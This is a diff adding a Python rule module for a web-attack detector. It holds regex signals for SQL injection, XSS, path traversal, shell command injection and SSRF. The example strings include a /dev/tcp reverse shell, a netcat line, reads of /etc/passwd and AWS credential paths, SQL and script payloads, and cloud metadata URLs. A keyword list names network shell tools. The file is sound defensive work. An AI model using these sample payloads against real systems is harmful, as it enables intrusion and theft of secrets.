@@ -1,0 +1,388 @@
+"""Web-attack signals: SQL injection, XSS, path traversal, shell command injection and SSRF targets.
+
+Each rule is one signal with a weight (`score`); the detector combines the signals of a family
+(noisy-or), so one weak signal stays below the blocking level and several together reach it.
+Patterns are RE2 (linear time); encoded payloads are matched on the decoded views.
+"""
+
+from __future__ import annotations
+
+from bastion.core.rules import Rule
+from bastion.core.types import Severity
+
+SQLI = "webattack.sqli"
+XSS = "webattack.xss"
+TRAVERSAL = "webattack.path_traversal"
+CMDI = "webattack.cmdi"
+SSRF = "webattack.ssrf"
+
+FAMILY_MESSAGES = {
+    SQLI: "SQL injection syntax",
+    XSS: "script injection into HTML (XSS)",
+    TRAVERSAL: "path traversal or a sensitive file path",
+    CMDI: "shell command injection",
+    SSRF: "URL pointing at an internal or metadata address (SSRF)",
+}
+
+_S = Severity.HIGH  # rules carry a severity for the table's sake; the detector sets the finding's
+_UNIX = (
+    r"(?:cat|tac|nl|head|tail|more|less|ls|dir|id|whoami|uname|hostname|ifconfig|ipconfig|netstat"
+    r"|ps|wget|curl|nc|ncat|netcat|socat|telnet|ssh|scp|ftp|tftp|bash|sh|zsh|ksh|csh|dash|python\d?"
+    r"|perl|ruby|php|node|lua|ping|nslookup|dig|host|traceroute|rm|mv|cp|chmod|chown|touch|mkdir"
+    r"|echo|printf|sleep|kill|killall|pkill|env|export|set|unset|sudo|su|crontab|base64|xxd|od"
+    r"|powershell|pwsh|cmd|net|certutil|bitsadmin|reg|wmic|systeminfo|tasklist|taskkill|type|find"
+    r"|grep|awk|sed|vi|vim|nano|dd|tar|zip|unzip|gzip|gcc|cc|make|eval|exec|time|timeout|nohup"
+    r"|xargs|tee|mail|sendmail|useradd|passwd|shutdown|reboot|halt|mount|apt|aptitude|apt-get|yum"
+    r"|dnf|rpm|dpkg|pip|npm|git|docker|kubectl|systemctl|service|chroot|strace|gdb|rmt|top|ansible"
+    r"|ansible-pull|cpulimit|alias|source|awk|openssl|jq|lwp-download|fetch|aria2c|busybox)"
+)
+
+RULES: tuple[Rule, ...] = (
+    # --- SQL injection ---------------------------------------------------------------------
+    Rule(
+        id="sqli.union_select",
+        code=SQLI,
+        pattern=r"(?i)\bunion\b[\s/*+()#\-!]*(?:all\b|distinct\b)?[\s/*+()#\-!]*\(*\s*select\b",
+        severity=_S,
+        score=0.9,
+        message="UNION SELECT",
+        examples=("1 union select 1,2,3", "x')/**/UNION/**/ALL/**/SELECT null--"),
+        counterexamples=("the union selected a new leader", "European Union"),
+    ),
+    Rule(
+        id="sqli.tautology",
+        code=SQLI,
+        pattern=(
+            r"(?i)['\"`)]\s*\)*\s*(?:or|and|xor|\|\||&&)\s*\(*\s*['\"]?[\w@]*['\"]?\s*(?:=|<>|!=|<|>"
+            r"|\blike\b|\bis\b|\bin\b|\bregexp\b|\brlike\b|between\b)"
+            r"|(?i)\b(?:or|and|xor|having|where)\s+\(*\s*(?:\d+|'[^']*'|\"[^\"]*\"|true|false|null"
+            r"|@@?\w+)\s*(?:=|<>|!=|<=>|>=|<=|<|>|\blike\b)\s*(?:\d+|'|\"|true|false|null|@@?\w+|\()"
+        ),
+        severity=_S,
+        score=0.8,
+        message="boolean tautology after a quote",
+        examples=("a' or 1='1", "1 OR 1=1", "' and 'x'='x", "admin' or '1'='1'--"),
+        counterexamples=("1060 OR 70S", "rock and roll"),
+    ),
+    Rule(
+        id="sqli.quote_keyword",
+        code=SQLI,
+        pattern=(
+            r"(?i)['\"`]\s*\)*\s*(?:;|\|\||\bor\b|\band\b|\bunion\b|\bselect\b|\bhaving\b|\border\s+by"
+            r"\b|\bgroup\s+by\b|\bwaitfor\b|\bexec\b|\binto\b|\bprocedure\b|\blimit\b|\bdiv\b"
+            r"|\bxor\b|\bregexp\b|\blike\b|\bwhere\b|\bcollate\b|\+|\|\||--|#|/\*)"
+        ),
+        severity=_S,
+        score=0.45,
+        message="a quote closed and followed by SQL",
+        examples=("x' or", "'; drop table users--", "admin'--", "1' order by 3"),
+        counterexamples=("it's raining", '"hello world"'),
+    ),
+    Rule(
+        id="sqli.stacked",
+        code=SQLI,
+        pattern=(
+            r"(?i);\s*(?:drop|delete|insert|update|alter|create|truncate|exec|execute|shutdown"
+            r"|declare|select|grant|revoke|rename|set\s+@)\b"
+        ),
+        severity=_S,
+        score=0.8,
+        message="stacked SQL statement",
+        examples=("1; DROP TABLE users", "x;shutdown--"),
+        counterexamples=("milk; bread; eggs", "see you; call me later"),
+    ),
+    Rule(
+        id="sqli.functions",
+        code=SQLI,
+        pattern=(
+            r"(?i)\b(?:sleep|benchmark|pg_sleep|load_file|extractvalue|updatexml|group_concat"
+            r"|concat_ws|information_schema|sysobjects|syscolumns|sqlite_master|pg_catalog"
+            r"|xp_cmdshell|sp_executesql|sp_password|utl_http|dbms_\w+|make_set|elt|exp|floor\s*\("
+            r"\s*rand|geometrycollection|multipoint|polygon|linestring|json_keys|name_const"
+            r"|row_count|found_rows|last_insert_id|char|chr|nchar|ascii|ord|hex|unhex|substr"
+            r"|substring|mid|instr|locate|version|database|schema|user|current_user|system_user"
+            r"|session_user|count|cast|convert|isnull|ifnull|nullif|coalesce|if|iif|case|length"
+            r"|len|lower|upper|reverse|concat|md5|sha1|rand|randomblob|unicode|ltrim|rtrim)\s*\("
+            r"|(?i)@@(?:version|datadir|hostname|basedir|tmpdir|servername|identity|\w+)"
+            r"|(?i)\bwaitfor\s+(?:delay|time)\b|\binformation_schema\b|\bsysobjects\b"
+        ),
+        severity=_S,
+        score=0.4,
+        message="SQL function or system variable",
+        examples=("sleep(5)", "@@version", "extractvalue(1,concat(0x7e,user()))", "WAITFOR DELAY"),
+        counterexamples=("Let me sleep on it", "the version is 2.1"),
+    ),
+    Rule(
+        id="sqli.comment",
+        code=SQLI,
+        pattern=r"(?i)/\*!?\d*|\*/|['\"`)\d]\s*(?:--|#|;\s*--|;\s*#|%00)|--\s*$|\bor\b\s*--",
+        severity=_S,
+        score=0.35,
+        message="SQL comment",
+        examples=("1/**/or/**/1", "admin'--", "5)#", "/*!50000select*/"),
+        counterexamples=("email me -- thanks", "item #4"),
+    ),
+    Rule(
+        id="sqli.statement",
+        code=SQLI,
+        pattern=(
+            r"(?i)\bselect\s+[\w.*,`]+\s+from\s+[\w.`]+\s+where\b|\binsert\s+into\b|\bupdate\b\s+\w+\s+\bset\b"
+            r"|\bdelete\s+from\b|\bdrop\s+(?:table|database|schema|view|function|procedure)\b"
+            r"|\border\s+by\s+\d|\bgroup\s+by\b.{0,40}\bhaving\b|\bexec(?:ute)?\s+(?:master|xp_|sp_)"
+            r"|\bcreate\s+(?:table|user|function|procedure|trigger)\b|\balter\s+table\b"
+            r"|\btruncate\s+table\b|\bdeclare\s+@|\bcase\s+when\b.{0,80}\bthen\b"
+            r"|\b(?:like|=)\s*0x[0-9a-f]{2,}|\bselect\s+(?:\*|\d|null|@|'|\"|\(|count|top|distinct"
+            r"|char|concat|case|if|sleep|user|version|database|pg_|name|table_name|column_name)"
+            r"|\bunion\s+all\b|\bprocedure\s+analyse\b|\binto\s+(?:out|dump)file\b"
+            r"|\bunion\b[\s(]*\(?\s*select|\bselect\s*\(|\bnull\s*,\s*null\b|\b\d+\s*,\s*\d+\s*,"
+            r"\s*\d+\s*,\s*\d+"
+        ),
+        severity=_S,
+        score=0.5,
+        message="SQL statement",
+        examples=(
+            "SELECT name FROM users WHERE id=1",
+            "insert into t values(1)",
+            "order by 5",
+            "select(1)",
+        ),
+        counterexamples=("please select a size from the menu list", "drop me a line"),
+    ),
+    Rule(
+        id="sqli.operators",
+        code=SQLI,
+        pattern=(
+            r"(?i)(?:^|[\s'\"(=])(?:-?\d+|'[^']*'|\"[^\"]*\")\s*(?:\|\||&&|\bdiv\b|\bxor\b|\bmod\b"
+            r"|<=>|\^|\brlike\b|\bregexp\b|\bsounds\s+like\b)\s*[-+~!(]*\s*[\w'\"@(]"
+            r"|(?i)\b(?:or|and)\s+(?:not\s+)?(?:exists|\d+\s*(?:between|in\b)|[\w.]+\s+(?:is\s+"
+            r"(?:not\s+)?null|in\s*\(|between\b))|(?i)['\"]\s*(?:\+|\|\|)\s*['\"]?\w|(?i)^\s*[-+]?\d+"
+            r"\s*\)+\s*(?:or|and|union|select|\)|;|--|#)|(?i)\bis\s+not\s+null\b|(?i)\b(?:true|false)"
+            r"\s*(?:=|<>|!=)|(?i)^\s*['\"]\s*(?:\)|;|,|\+|=|\||&)"
+        ),
+        severity=_S,
+        score=0.4,
+        message="SQL operator after a value",
+        examples=("1 || 2", "1 xor 1", "x' + 'y", "1) or (1", "'="),
+        counterexamples=("rock and roll", "apples, oranges"),
+    ),
+    # --- XSS -------------------------------------------------------------------------------
+    Rule(
+        id="xss.script_tag",
+        code=XSS,
+        pattern=r"(?i)<\s*/?\s*(?:[a-z]+:)?script\b|<\s*/\s*script\s*>",
+        severity=_S,
+        score=0.9,
+        message="script element",
+        examples=("<script>alert(1)</script>", "<x:script src=//a>"),
+        counterexamples=("the script of the movie", "a javascript tutorial"),
+    ),
+    Rule(
+        id="xss.event_handler",
+        code=XSS,
+        pattern=(
+            r"(?i)<[a-z!?/][^>]*?[\s\"'/;`]on[a-z]{3,30}\s*=|(?i)[\s\"'/;`]on(?:error|load|click"
+            r"|mouse\w+|focus|blur|key\w+|submit|change|input|toggle|animation\w*|transition\w*"
+            r"|pointer\w*|begin|end|start|scroll|resize|unload|beforeunload|message|hashchange"
+            r"|pageshow|popstate|wheel|drag\w*|drop|copy|cut|paste|show|search|select|invalid"
+            r"|reset|play\w*|pause|ended|auxclick|contextmenu|dblclick|readystatechange"
+            r"|afterprint|beforeprint|loadstart|loadend|progress|abort|seeked|seeking|waiting)"
+            r"\s*="
+        ),
+        severity=_S,
+        score=0.8,
+        message="HTML event handler attribute",
+        examples=('<img src=x onerror="alert(1)">', '" onmouseover="alert(1)', "<body onload=x()>"),
+        counterexamples=("turn the lights on=off", "the error is on line 3"),
+    ),
+    Rule(
+        id="xss.javascript_url",
+        code=XSS,
+        pattern=(
+            r"(?i)\b(?:java|vb|live|ecma)\s*script\s*:|(?i)\bdata\s*:\s*(?:text/html|image/svg"
+            r"|application/(?:x-)?javascript|text/javascript)|(?i)\bdata\s*:\s*,|(?i)\bsrcdoc\s*="
+            r"|(?i)\bexpression\s*\(|(?i)-moz-binding|(?i)\bbehavior\s*:|(?i)@import\b"
+        ),
+        severity=_S,
+        score=0.75,
+        message="script URL or CSS expression",
+        examples=('<a href="javascript:alert(1)">', "data:text/html;base64,PHNjcmlwdD4="),
+        counterexamples=("I love JavaScript programming", "data: see attached"),
+    ),
+    Rule(
+        id="xss.dangerous_tag",
+        code=XSS,
+        pattern=(
+            r"(?i)<\s*/?\s*(?:iframe|frame|frameset|object|embed|applet|svg|math|img|image|body"
+            r"|video|audio|source|track|details|marquee|isindex|form|input|button|base|link|meta"
+            r"|style|xml|xss|animate|set|use|foreignobject|template|textarea|select|keygen|layer"
+            r"|ilayer|bgsound|a|x|plaintext|xmp|noscript|title|html|div|span|table|td|iframe2"
+            r"|object2|[a-z]+:[a-z]+)\b"
+        ),
+        severity=_S,
+        score=0.35,
+        message="active HTML element",
+        examples=("<iframe src=//evil>", "<svg/onload=x>", "<a href=x>"),
+        counterexamples=("a < b and c > d", "x<y"),
+    ),
+    Rule(
+        id="xss.js_sink",
+        code=XSS,
+        pattern=(
+            r"(?i)\b(?:alert|prompt|confirm|eval|settimeout|setinterval|function|fromcharcode|atob"
+            r"|import|fetch|execscript)\s*(?:\(|`)|(?i)\bdocument\s*\.\s*(?:cookie|domain|write"
+            r"|location|body|createelement)|(?i)\bwindow\s*\.\s*(?:location|open|name)"
+            r"|(?i)\blocation\s*\.\s*(?:href|hash|replace)|(?i)\binnerhtml\b|(?i)\bconstructor\s*\("
+            r"|(?i)\[\s*['\"]constructor['\"]\s*\]|(?i)\bstring\s*\.\s*fromcharcode"
+        ),
+        severity=_S,
+        score=0.45,
+        message="JavaScript sink",
+        examples=("alert(1)", "document.cookie", "prompt`1`"),
+        counterexamples=("please confirm my booking", "an alert went off"),
+    ),
+    Rule(
+        id="xss.markup_break",
+        code=XSS,
+        pattern=(
+            r"(?i)['\"]\s*>\s*<\s*[a-z!/]|(?i)<!--.*?-->\s*<|(?i)<!\[cdata\[|(?i)&#x?0*(?:60|3c)"
+            r"(?:;|\b)|(?i)\\u003c|(?i)\\x3c|(?i)<\s*[a-z]+[^>]*\bstyle\s*=[^>]*(?:expression|url)"
+            r"|(?i)<\s*[a-z]+\s+[^>]*(?:src|href|action|formaction|data|xlink:href|background"
+            r"|dynsrc|lowsrc)\s*=|(?i)<[a-z]+[\s/]+[a-z]+\s*=[^>]*>|(?i)<[a-z]+/"
+        ),
+        severity=_S,
+        score=0.4,
+        message="markup that breaks out of an attribute or element",
+        examples=('"><img src=x>', "&#x3c;script", '<img src="x">'),
+        counterexamples=('she said "hi" > all', "5 > 3"),
+    ),
+    # --- path traversal ----------------------------------------------------------------------
+    Rule(
+        id="traversal.dot_dot",
+        code=TRAVERSAL,
+        pattern=(
+            r"(?:\.\.\.?[\\/;]|[\\/]\.\.\.?(?:[\\/;]|$)|\.\.(?:%2f|%5c|%c0%af|%c1%9c|%252f|%255c)"
+            r"|%2e%2e|%252e|\.%2e|%2e\.|0x2e0x2e|\.\.\\|\.\.;)"
+        ),
+        severity=_S,
+        score=0.75,
+        message="parent-directory sequence",
+        examples=("../../etc/passwd", "..\\windows", "%2e%2e%2f", "..;/"),
+        counterexamples=("wait... what?", "version 1..3"),
+    ),
+    Rule(
+        id="traversal.sensitive_file",
+        code=TRAVERSAL,
+        pattern=(
+            r"(?i)/etc/(?:passwd|shadow|group|hosts|issue|sudoers|crontab|apache2|nginx|httpd|ssh"
+            r"|mysql|\[|\*|\?)|(?i)/proc/(?:self|\d+|sys|version|cpuinfo)|(?i)/root/\.|(?i)/\.ssh/"
+            r"|(?i)\bid_rsa\b|(?i)/\.aws/credentials|(?i)\bwin\.ini\b|(?i)\bboot\.ini\b"
+            r"|(?i)windows[\\/]system32|(?i)\bweb\.config\b|(?i)/var/log/|(?i)\.htaccess\b"
+            r"|(?i)\.htpasswd\b|(?i)\bwp-config\.php\b|(?i)/etc/[a-z.\[\]*?!]+[a-z]"
+            r"|(?i)/(?:e|\[e[^\]]*\])(?:t|\[t[^\]]*\]|\*|\?)(?:c|\*|\?)"
+        ),
+        severity=_S,
+        score=0.6,
+        message="sensitive system file path",
+        examples=("/etc/passwd", "C:\\windows\\system32", "cat /root/.aws/credentials"),
+        counterexamples=("etc. passwords are stored hashed", "the root of the tree"),
+    ),
+    Rule(
+        id="traversal.scheme",
+        code=TRAVERSAL,
+        pattern=r"(?i)\bfile:/|\b(?:php|zip|phar|expect|glob|jar|netdoc|gopher|dict)://",
+        severity=_S,
+        score=0.75,
+        message="local file or wrapper URL scheme",
+        examples=("file:///etc/passwd", "php://filter/resource=index.php"),
+        counterexamples=("save the file to disk", "https://example.com"),
+    ),
+    # --- command injection -------------------------------------------------------------------
+    Rule(
+        id="cmdi.separator_command",
+        code=CMDI,
+        pattern=(
+            rf"(?:[;&|`\n]|\$\(|\|\||&&)\s*[{{(]?\s*(?:/(?:usr/)?s?bin/)?{_UNIX}(?:[\s;&|`<>$]|$)"
+            r"|\$\(\s*[a-z]|`\s*[a-z/][^`]*`"
+        ),
+        severity=_S,
+        score=0.85,
+        message="command after a shell separator",
+        examples=("x; cat /etc/passwd", "a && whoami", "$(id)", "`uname -a`", "|nc 1.2.3.4 80"),
+        counterexamples=("milk; bread; cheese", "Tom & Jerry"),
+    ),
+    Rule(
+        id="cmdi.shell_syntax",
+        code=CMDI,
+        pattern=(
+            r"\$\{?IFS\}?|\$\{[a-z_]*\}|\{[a-z]+,[^}\s]*\}|/dev/(?:tcp|udp)/|(?i)/bin/(?:ba|z|k|da)?sh"
+            r"\b|(?i)\bcmd(?:\.exe)?\s*/[ck]\b|(?i)\bpowershell(?:\.exe)?\s+-|<<<|\$\(\(|\bexec\s+\d"
+            r"|(?i)\b(?:nc|ncat|netcat)\s+-[a-z]*e\b|(?i)\bsh\s+-c\b|(?i)\bbash\s+-[ci]\b"
+            r"|(?i)\bcurl\s+[^\s]+\s*\|\s*(?:ba)?sh|\b(?:chmod\s+[+0-7]|wget\s+https?://|curl\s+"
+            r"(?:-\w+\s+)*https?://)|\$'\\|\\\$\(|\{,|,\}|\w\$\{?\w+\}?\w|\w'\w*'\w|\w\"\w*\"\w"
+            r"|/\[[^\]]+\]\w|\w\[[!^]?[a-z]\]\w|\?{1,3}/|/[a-z]*[*?][a-z]*/"
+        ),
+        severity=_S,
+        score=0.7,
+        message="shell metacharacter syntax",
+        examples=("cat${IFS}/etc/passwd", "{cat,/etc/passwd}", "bash -i >& /dev/tcp/1.2.3.4/8080"),
+        counterexamples=("costs $5 {approx}", "what? really"),
+    ),
+    Rule(
+        id="cmdi.windows_batch",
+        code=CMDI,
+        pattern=(
+            r"(?i)(?:^|[&|;(]\s*)(?:if\s+(?:/i\s+)?(?:not\s+)?(?:exist|defined|errorlevel|\S+\s*"
+            r"(?:==|\bequ\b|\bneq\b|\blss\b|\bleq\b|\bgtr\b|\bgeq\b))|for\s+(?:/[dflr]\s+)*"
+            r"(?:\S+\s+)?%%?[~\w@]+\s+in\s*\(|set\s+/[ap]\s|call\s+:|goto\s+:?\w+|echo\s+(?:off|on)"
+            r"\b|%comspec%|start\s+/b\b)"
+        ),
+        severity=_S,
+        score=0.8,
+        message="Windows batch control flow",
+        examples=('IF EXIST "temp.txt" ECHO found', "& FOR %@ IN (a,b,c) DO cmd", "IF 2 GEQ 15 x"),
+        counterexamples=("if you exist, reply", "for the win"),
+    ),
+    Rule(
+        id="cmdi.leading_command",
+        code=CMDI,
+        pattern=(
+            rf"(?i)^\s*[;&|`'\"{{(]*\s*(?:/(?:usr/)?s?bin/)?{_UNIX}(?:\s+-{{1,2}}[a-z]|\s+['\"/~.$]"
+            rf"|\s+\w+\s+\w+\s*$|\s*$|\s*[;&|<>`]|\s*\()"
+        ),
+        severity=_S,
+        score=0.55,
+        message="field starts with a shell command",
+        examples=("ls foo bar", "cat /etc/hosts", ";aptitude", "whoami"),
+        counterexamples=("catalog number 5", "time to go home now please"),
+    ),
+    # --- SSRF --------------------------------------------------------------------------------
+    Rule(
+        id="ssrf.internal_host",
+        code=SSRF,
+        pattern=(
+            r"(?i)\b[a-z][a-z0-9+.-]*://(?:[^/@\s]*@)?(?:localhost|127\.\d{1,3}\.\d{1,3}\.\d{1,3}"
+            r"|0\.0\.0\.0|0+(?:[:/]|$)|10\.\d{1,3}\.\d{1,3}\.\d{1,3}|192\.168\.\d{1,3}\.\d{1,3}"
+            r"|172\.(?:1[6-9]|2\d|3[01])\.\d{1,3}\.\d{1,3}|169\.254\.\d{1,3}\.\d{1,3}"
+            r"|100\.(?:6[4-9]|[7-9]\d|1[01]\d|12[0-7])\.\d{1,3}\.\d{1,3}"
+            r"|metadata\.google\.internal|metadata(?:[:/]|$)|instance-data|[\w.-]*\.internal\b"
+            r"|[\w.-]*\.local\b|[\w.-]*\.localhost\b|\[(?:::1?|0*:0*:0*:0*:0*:0*:0*:0*1|::ffff:[\d.:a-f]+"
+            r"|f[cd][0-9a-f]{2}:[0-9a-f:]*|fe[89ab][0-9a-f]:[0-9a-f:%\w]*)\]"
+            r"|\d{8,10}(?:[:/]|$)|0x[0-9a-f]{8}(?:[:/]|$)|0x[0-9a-f]{1,2}\.|0[0-7]{1,3}\.[0-7.]+"
+            r"|\d{1,3}\.\d{1,3}\.\d{1,5}(?:[:/]|$)|\d{1,3}\.\d{1,8}(?:[:/]|$))"
+        ),
+        severity=_S,
+        score=0.8,
+        message="URL host is loopback, private, link-local or a cloud metadata service",
+        examples=(
+            "http://169.254.169.254/latest/meta-data/",
+            "http://metadata.google.internal/computeMetadata/v1/",
+            "http://127.0.0.1:8080/admin",
+            "http://[::1]/",
+            "http://2130706433/",
+            "http://0x7f000001/",
+            "gopher://10.0.0.5:6379/_",
+            "http://[fd00::1]/",
+        ),
+        counterexamples=("https://example.com/page", "http://8.8.8.8/", "see 10.0.0.1 in the docs"),
+    ),
+)
